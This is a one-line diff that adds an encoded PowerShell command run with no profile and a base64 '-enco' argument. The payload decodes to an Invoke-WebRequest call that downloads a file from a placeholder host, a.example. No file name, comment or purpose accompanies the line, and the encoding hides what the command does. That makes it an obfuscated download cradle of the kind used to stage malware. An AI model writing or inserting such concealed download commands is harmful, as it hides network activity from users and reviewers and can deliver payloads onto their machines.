@@ -1,0 +1,1 @@
+powershell.exe -nop -enco aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA=
